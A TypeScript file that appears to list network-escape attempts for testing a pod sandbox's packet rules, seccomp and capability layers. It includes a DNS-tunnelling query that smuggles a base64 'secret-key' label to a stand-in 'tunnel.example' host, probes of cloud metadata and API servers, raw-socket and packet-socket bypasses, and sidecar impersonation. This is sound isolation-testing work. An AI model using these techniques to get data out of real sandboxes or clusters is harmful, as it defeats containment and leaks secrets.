import { processes } from 'kars-constructs/contract';
import {
  famous,
  REACHED,
  SECOND_INBOUND_PORT,
  WORLD_PORT,
  type NetworkAttack,
  type NetworkLayer,
  type Order,
  type Surroundings,
} from './network-attack.ts';

const port = WORLD_PORT;

/** A question of DNS whose name carries what is to leave; RFC 1035 section 4.1. */
function question(type: number): string {
  const labels = ['c2VjcmV0LWtleQ', 'tunnel', 'example'];
  const name = labels.map((label) => `${String.fromCharCode(label.length)}${label}`).join('');
  const head = Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
  return Buffer.concat([head, Buffer.from(`${name}\0`), Buffer.from([0, type, 0, 1])]).toString('hex'); // prettier-ignore
}

const TXT = 16;
const NULL = 10;
const ROUTER_ALERT = '94040000';
const OF_FRAGMENTS = 4000;

const attack = (
  id: string,
  what: string,
  order: (around: Surroundings) => Order,
  layers: readonly NetworkLayer[] = ['packet-rules'],
  succeeded = REACHED,
): NetworkAttack => ({ id, what, layers, orders: (around) => [order(around)], succeeded });

const tcp = (to: string, more: object = {}): Order => ({ attempt: 'tcp', to, port, ...more });
const udp = (to: string, more: object = {}): Order => ({ attempt: 'udp', to, port, ...more });

const privileged: readonly NetworkLayer[] = ['packet-rules', 'capabilities'];
const { statusPort } = processes.router;
const ANSWERS = /^HTTP\/1\.1 \d/;

const streams: readonly NetworkAttack[] = [
  attack('tcp-ipv4', 'connects to another pod over IPv4', ({ ipv4 }) => tcp(ipv4)),
  attack('tcp-ipv6', 'connects to another pod over IPv6', ({ ipv6 }) => tcp(ipv6)),
  attack('tcp-mapped', 'connects to another pod by an IPv4-mapped address', ({ ipv4 }) =>
    tcp(`::ffff:${ipv4}`),
  ),
  attack('tcp-multipath', 'connects with Multipath TCP', ({ ipv4 }) => tcp(ipv4, { mptcp: true })),
  attack('tcp-early-data', 'sends data in the segment that opens a connection', ({ ipv4 }) =>
    tcp(ipv4, { early: true }),
  ),
  attack('tcp-device', 'binds its socket to the link, past the redirect', ({ ipv4 }) =>
    tcp(ipv4, { device: 'eth0' }),
  ),
  attack('tcp-options', 'sets options of the IP header', ({ ipv4 }) =>
    tcp(ipv4, { options: ROUTER_ALERT }),
  ),
  attack('tcp-inbound-port', 'connects out from a port that is open inwards', ({ ipv4 }) =>
    tcp(ipv4, { from: ['', SECOND_INBOUND_PORT] }),
  ),
  attack(
    'tcp-mark',
    'marks its packets, as the node marks its own',
    ({ ipv4 }) => tcp(ipv4, { mark: 0x4000 }),
    privileged,
  ),
  attack(
    'tcp-transparent',
    'makes its socket transparent',
    ({ ipv4 }) => tcp(ipv4, { transparent: true }),
    privileged,
  ),
];

const datagrams: readonly NetworkAttack[] = [
  attack('udp-ipv4', 'sends a datagram to another pod over IPv4', ({ ipv4 }) => udp(ipv4)),
  attack('udp-ipv6', 'sends a datagram to another pod over IPv6', ({ ipv6 }) => udp(ipv6)),
  attack('udp-connected', 'sends from a connected socket of UDP', ({ ipv4 }) =>
    udp(ipv4, { connected: true }),
  ),
  attack('udp-fragments', 'sends a datagram in fragments', ({ ipv4 }) =>
    udp(ipv4, { size: OF_FRAGMENTS }),
  ),
  attack('udp-broadcast', 'sends to everybody on the link', () => udp('255.255.255.255')),
  attack('udp-multicast', 'asks the multicast group of mDNS over IPv4', () =>
    udp('224.0.0.251', { port: 5353 }),
  ),
  attack('udp-multicast-ipv6', 'asks the multicast group of mDNS over IPv6', () =>
    udp('ff02::fb%eth0', { port: 5353 }),
  ),
  attack('ping', 'sends an echo request through a socket for pings', ({ ipv4 }) => ({
    attempt: 'ping',
    kind: 'SOCK_DGRAM',
    to: ipv4,
  })),
  attack('ping-ipv6', 'sends an echo request over IPv6', ({ ipv6 }) => ({
    attempt: 'ping',
    kind: 'SOCK_DGRAM',
    to: ipv6,
  })),
  attack(
    'raw-icmp',
    'sends an echo request through a raw socket',
    ({ ipv4 }) => ({ attempt: 'ping', kind: 'SOCK_RAW', to: ipv4 }),
    privileged,
  ),
  attack(
    'raw-ip',
    'writes the IP header itself',
    ({ ipv4, own }) => ({ attempt: 'raw_ip', to: ipv4, own, port }),
    privileged,
  ),
  attack(
    'packet-socket',
    'writes frames to the link, below all packet rules',
    ({ ipv4, own }) => ({ attempt: 'packet_socket', to: ipv4, own, port }),
    ['seccomp', 'capabilities'],
  ),
];

const names: readonly NetworkAttack[] = [
  attack('dns-cluster', 'hides data in a name that it asks the DNS of the cluster', () =>
    udp(famous.clusterDns, { port: 53, payload: question(TXT) }),
  ),
  attack('dns-public', 'asks a resolver of its own for records of type NULL', () =>
    udp(famous.publicDns, { port: 53, payload: question(NULL) }),
  ),
  attack('dns-tcp', 'asks the DNS of the cluster over TCP', () =>
    tcp(famous.clusterDns, { port: 53 }),
  ),
  attack('dns-tls', 'asks a resolver over TLS', () => tcp(famous.publicDns, { port: 853 })),
];

const places: readonly NetworkAttack[] = [
  attack('metadata', 'asks the metadata service', () => tcp(famous.metadata, { port: 80 })),
  attack('metadata-ipv6', 'asks the metadata service over IPv6', () =>
    tcp(famous.awsMetadata, { port: 80 }),
  ),
  attack('platform-address', 'asks the platform address of Azure', () =>
    tcp(famous.azurePlatform, { port: 80 }),
  ),
  attack('api-server', 'connects to the API server', () => tcp(famous.apiServer, { port: 443 })),
  attack(
    'health',
    'asks a sidecar for its status at the address of the pod',
    ({ own }) => tcp(own, { port: statusPort }),
    ['packet-rules'],
    ANSWERS,
  ),
  attack(
    'health-mapped',
    'asks a sidecar for its status by an IPv4-mapped address',
    ({ own }) => tcp(`::ffff:${own}`, { port: statusPort }),
    ['packet-rules'],
    ANSWERS,
  ),
  {
    id: 'listen',
    what: 'opens a port that no inbound names, for a neighbour',
    layers: ['packet-rules'],
    orders: () => [{ attempt: 'listen', port: 8081, seconds: 4 }],
    asked: { port: 8081 },
    succeeded: REACHED,
  },
  {
    id: 'impersonate',
    what: 'takes over the port of a sidecar that has died, and answers in its name',
    layers: ['packet-rules'],
    orders: ({ own }) => [
      { attempt: 'listen', at: own, port: processes['egress-proxy'].statusPort, seconds: 8, insist: true }, // prettier-ignore
    ],
    asked: { port: processes['egress-proxy'].statusPort, ends: 'egress-proxy' },
    succeeded: REACHED,
  },
];

/** Attempts to get packets past the rules of the pod. */
export const packetAttacks: readonly NetworkAttack[] = [
  ...streams,
  ...datagrams,
  ...names,
  ...places,
];
